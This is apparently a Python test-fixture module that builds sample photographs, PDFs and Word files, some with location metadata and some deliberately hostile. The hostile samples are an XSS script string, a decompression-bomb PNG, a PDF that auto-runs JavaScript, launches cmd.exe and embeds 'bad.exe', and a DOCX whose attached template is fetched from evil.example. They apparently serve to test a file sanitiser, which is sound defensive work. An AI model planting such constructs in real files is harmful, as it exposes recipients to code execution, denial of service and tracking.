"""Files as people send them, and as somebody sends them who means harm; all made here."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
import pillow_heif
from PIL import Image

CAMERA, PLACE = "试用相机", (31.0, 14.0, 7.0)
AUTHOR = "试写作者"
SCRIPT = b"<script>alert(1)</script>"


def picture(size: tuple[int, int] = (60, 40)) -> Image.Image:
    """A picture whose left half is red and whose right half is blue."""
    drawn = Image.new("RGB", size, "blue")
    drawn.paste("red", (0, 0, size[0] // 2, size[1]))
    return drawn


def exif(*, orientation: int = 1) -> Image.Exif:
    """Camera, author, orientation and the place where it was taken."""
    notes = Image.Exif()
    notes[0x0110], notes[0x013B], notes[0x0112] = CAMERA, AUTHOR, orientation
    notes.get_ifd(0x8825).update({1: "N", 2: PLACE, 3: "E", 4: (121.0, 28.0, 0.0)})
    return notes


def jpeg(*, orientation: int = 1) -> bytes:
    """A photograph with its place."""
    out = BytesIO()
    picture().save(out, "JPEG", quality=95, exif=exif(orientation=orientation), comment=AUTHOR.encode())
    return out.getvalue()


def heic() -> bytes:
    """A telephone's photograph with its place."""
    out = BytesIO()
    pillow_heif.from_pillow(picture((64, 64))).save(out, exif=exif().tobytes(), quality=80)
    return out.getvalue()


def png(size: tuple[int, int] = (60, 40)) -> bytes:
    """A screen shot."""
    out = BytesIO()
    picture(size).save(out, "PNG")
    return out.getvalue()


def giant_png(width: int = 10_000, height: int = 10_000) -> bytes:
    """A small file that claims a hundred million pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(*, script: bool = False, photograph: bool = False, password: str = "") -> bytes:
    """One page; perhaps with a script, with a telephone's photograph inside, with a password."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    document.docinfo["/Author"] = AUTHOR
    with document.open_metadata() as about:
        about["dc:creator"] = [AUTHOR]
    if script:
        _let_it_run(document)
    if photograph:
        image = pikepdf.Stream(document, jpeg())
        image.update({"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 60, "/Height": 40,
                      "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8})  # fmt: skip
        image["/Filter"] = pikepdf.Name.DCTDecode
        document.pages[0].Resources = pikepdf.Dictionary(
            XObject=pikepdf.Dictionary(Im0=document.make_indirect(image))
        )
    out = BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner=password, user=password) if password else None)
    return out.getvalue()


def _let_it_run(document: pikepdf.Pdf) -> None:
    run = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.OpenAction = run
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["go", document.make_indirect(run)]))
    )
    start = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Text,
        T=AUTHOR,
        Contents="批注",
        Rect=[0, 0, 9, 9],
        A=start,
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
    document.attachments["bad.exe"] = b"MZ"


def docx(**parts: bytes) -> bytes:
    """A Word file with its author, a tracked change, an outward template and a photograph; `parts` adds or replaces."""
    content = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": b'<Relationships xmlns="x"/>',
        "word/document.xml": f'<w:document><w:ins w:author="{AUTHOR}" w:id="1">正文</w:ins></w:document>'.encode(),
        "word/_rels/settings.xml.rels": (
            b'<Relationships><Relationship Id="a" Type="http://x/attachedTemplate"'
            b' Target="http://evil.example/t.dotm" TargetMode="External"/>'
            b'<Relationship Id="b" Type="http://x/hyperlink" Target="http://kept.example/" TargetMode="External"/>'
            b"</Relationships>"
        ),
        "word/media/image1.jpeg": jpeg(),
        "docProps/core.xml": f"<c><dc:creator>{AUTHOR}</dc:creator></c>".encode(),
        "docProps/app.xml": f"<p><Company>{AUTHOR}</Company></p>".encode(),
        **parts,
    }
    return zipped(content)


def zipped(parts: dict[str, bytes]) -> bytes:
    """A zip of these parts."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def opened(data: bytes) -> dict[str, bytes]:
    """The parts of a zip."""
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
